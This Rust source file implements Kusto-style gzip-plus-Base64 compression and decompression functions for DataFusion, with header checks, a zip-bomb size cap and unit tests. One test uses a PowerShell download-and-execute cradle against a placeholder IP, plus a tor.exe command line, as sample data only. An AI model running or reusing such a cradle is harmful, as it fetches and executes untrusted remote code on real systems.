//! `gzip_compress_to_base64_string(s)` / `gzip_decompress_from_base64_string(b64)`: gzip plus Base64
//! of UTF-8 text. Per the docs, decompression gives "" when the input is not Base64, the gzip header's
//! ID1, ID2, CM or FLG bytes are not 1f 8b 08 00 (optional header fields are not supported), the data
//! is corrupt, or the result is not UTF-8.

use std::io::Read;
use std::sync::Arc;

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use datafusion::arrow::datatypes::DataType;
use datafusion::common::{Result, exec_err};
use datafusion::logical_expr::{ColumnarValue, ScalarUDF};
use flate2::Crc;
use flate2::read::GzDecoder;

use super::kernel::{Args, define, string_rows};
use super::transcode::{CODEC_INPUT, transcode_rows};
use crate::declare::*;

/// ID1, ID2, CM (deflate) and FLG (no optional fields): the header bytes Kusto checks.
const GZIP_MAGIC: [u8; 4] = [0x1f, 0x8b, 0x08, 0x00];
/// The rest of Kusto's header: MTIME 0, XFL 0, OS 255 ("unknown").
const HEADER_TAIL: [u8; 6] = [0, 0, 0, 0, 0, 0xff];
/// The largest payload of one stored deflate block.
const STORED_BLOCK_MAX: usize = u16::MAX as usize;
/// Decompressed text beyond this size is refused, so a hostile "zip bomb" cannot exhaust memory.
const MAX_DECOMPRESSED_BYTES: u64 = 128 << 20;

/// `kql_gzip_compress_to_base64_string(s: Utf8) -> Utf8`.
pub fn gzip_compress_to_base64_string() -> Arc<ScalarUDF> {
    crate::singleton!(
        ScalarUDF,
        define(
            "kql_gzip_compress_to_base64_string",
            CODEC_INPUT,
            DataType::Utf8,
            |args| transcode_rows(args, compress),
        )
    )
}

pub(crate) static GZIP_COMPRESS_TO_BASE64_STRING: KustoFunction = KustoFunction::scalar(
    Signature::scalar("gzip_compress_to_base64_string", &[P::Str], R::Fixed(T::String)),
    gzip_compress_to_base64_string,
);

/// `kql_gzip_decompress_from_base64_string(b64: Utf8) -> Utf8`.
pub fn gzip_decompress_from_base64_string() -> Arc<ScalarUDF> {
    crate::singleton!(
        ScalarUDF,
        define(
            "kql_gzip_decompress_from_base64_string",
            CODEC_INPUT,
            DataType::Utf8,
            |args| decompressed_rows(args, decompress),
        )
    )
}

pub(crate) static GZIP_DECOMPRESS_FROM_BASE64_STRING: KustoFunction = KustoFunction::scalar(
    Signature::scalar(
        "gzip_decompress_from_base64_string",
        &[P::Str],
        R::Fixed(T::String),
    ),
    gzip_decompress_from_base64_string,
);

/// Kusto's encoder stores the text in uncompressed deflate blocks (the docs' example,
/// "1234567890qwertyuiop", is one stored block), so this writes the same bytes rather than whatever a
/// compressor would choose.
fn compress(text: &str, out: &mut String) {
    let bytes = text.as_bytes();
    let mut gzip = Vec::with_capacity(bytes.len() + bytes.len() / STORED_BLOCK_MAX * 5 + 23);
    gzip.extend_from_slice(&GZIP_MAGIC);
    gzip.extend_from_slice(&HEADER_TAIL);
    stored_blocks(bytes, &mut gzip);
    let mut crc = Crc::new();
    crc.update(bytes);
    gzip.extend_from_slice(&crc.sum().to_le_bytes());
    // ISIZE is the input size modulo 2^32 (RFC 1952).
    gzip.extend_from_slice(&(bytes.len() as u32).to_le_bytes());
    STANDARD.encode_string(gzip, out);
}

/// `bytes` as a deflate stream of uncompressed ("stored") blocks, appended to `out` (also the body of
/// Kusto's zlib encoding, see `zlib.rs`).
pub(super) fn stored_blocks(bytes: &[u8], out: &mut Vec<u8>) {
    let mut blocks = bytes.chunks(STORED_BLOCK_MAX).peekable();
    if blocks.peek().is_none() {
        out.extend_from_slice(&[1, 0, 0, 0xff, 0xff]);
    }
    while let Some(block) = blocks.next() {
        let is_final = u8::from(blocks.peek().is_none());
        // The length fits: blocks are at most u16::MAX bytes.
        let len = block.len() as u16;
        out.push(is_final);
        out.extend_from_slice(&len.to_le_bytes());
        out.extend_from_slice(&(!len).to_le_bytes());
        out.extend_from_slice(block);
    }
}

/// The text, `None` when the input is not valid (Kusto's empty result), or an error past the size cap.
fn decompress(function: &str, b64: &str) -> Result<Option<String>> {
    let Ok(gzip) = STANDARD.decode(b64) else {
        return Ok(None);
    };
    if !gzip.starts_with(&GZIP_MAGIC) {
        return Ok(None);
    }
    decompressed_text(function, GzDecoder::new(gzip.as_slice()))
}

/// Each row's Base64 text decompressed by `decompress`, or "" where it gives `None` (also for
/// `zlib.rs`).
pub(super) fn decompressed_rows(
    args: &Args,
    decompress: fn(&str, &str) -> Result<Option<String>>,
) -> Result<ColumnarValue> {
    let b64 = args.str(0)?;
    string_rows(args, |row, out| {
        if let Some(text) = decompress(args.name(), b64.get(row))? {
            out.push_str(&text);
        }
        Ok(())
    })
}

/// What a decoder gives, as text: `None` when the data is corrupt or not UTF-8 (Kusto's empty
/// result), an error past the size cap (also for `zlib.rs`).
pub(super) fn decompressed_text(function: &str, decoder: impl Read) -> Result<Option<String>> {
    let mut bytes = Vec::new();
    let read = decoder.take(MAX_DECOMPRESSED_BYTES + 1).read_to_end(&mut bytes);
    if read.is_err() {
        return Ok(None);
    }
    if bytes.len() as u64 > MAX_DECOMPRESSED_BYTES {
        return exec_err!(
            "{function}(): the decompressed text exceeds {} MiB",
            MAX_DECOMPRESSED_BYTES >> 20
        );
    }
    Ok(String::from_utf8(bytes).ok())
}

#[cfg(test)]
mod tests {
    use std::io::Write;

    use flate2::Compression;
    use flate2::write::GzEncoder;

    use super::super::kernel::testing::{call_scalars, s, text};
    use super::super::transcode::assert_transcodes;
    use super::*;

    const DOCS_TEXT: &str = "1234567890qwertyuiop";
    const DOCS_GZIP: &str = "H4sIAAAAAAAA/wEUAOv/MTIzNDU2Nzg5MHF3ZXJ0eXVpb3A6m7f2FAAAAA==";

    #[test]
    fn docs_examples() {
        // gzip_compress_to_base64_string("1234567890qwertyuiop") is DOCS_GZIP, and decompressing it
        // gives the text back; gzip_decompress_from_base64_string("x0x0x0") is "".
        assert_transcodes(&gzip_compress_to_base64_string(), &[(DOCS_TEXT, DOCS_GZIP)]);
        assert_transcodes(
            &gzip_decompress_from_base64_string(),
            &[(DOCS_GZIP, DOCS_TEXT), ("x0x0x0", "")],
        );
    }

    fn gzip_base64(text: &[u8]) -> String {
        let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
        encoder.write_all(text).expect("in-memory write");
        STANDARD.encode(encoder.finish().expect("in-memory gzip"))
    }

    #[test]
    fn decompresses_what_other_gzip_encoders_write_and_round_trips_long_text() {
        // A payload as PowerShell's GZipStream or Python's gzip.compress would write it (FLG 0).
        let script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')";
        let long = "tor.exe --SocksPort 9050\n".repeat(10_000);
        let compress = gzip_compress_to_base64_string();
        let decompress = gzip_decompress_from_base64_string();
        let round_trip = text(call_scalars(
            &decompress,
            vec![call_scalars(&compress, vec![s(&long)])],
        ));
        assert_eq!(round_trip, long);
        assert_transcodes(
            &decompress,
            &[(&gzip_base64(script.as_bytes()), script), ("", "")],
        );
    }

    #[test]
    fn refused_inputs_give_an_empty_string() {
        let mut with_name = STANDARD.decode(gzip_base64(b"text")).expect("base64");
        with_name[3] = 0x08; // FNAME flag: optional header fields are not supported.
        let truncated = &STANDARD.decode(DOCS_GZIP).expect("base64")[..20];
        assert_transcodes(
            &gzip_decompress_from_base64_string(),
            &[
                (&STANDARD.encode(with_name), ""),
                (&STANDARD.encode(truncated), ""),
                (&gzip_base64(&[0xff, 0xfe, 0x00]), ""),
                ("S3VzdG8=", ""),
            ],
        );
    }
}
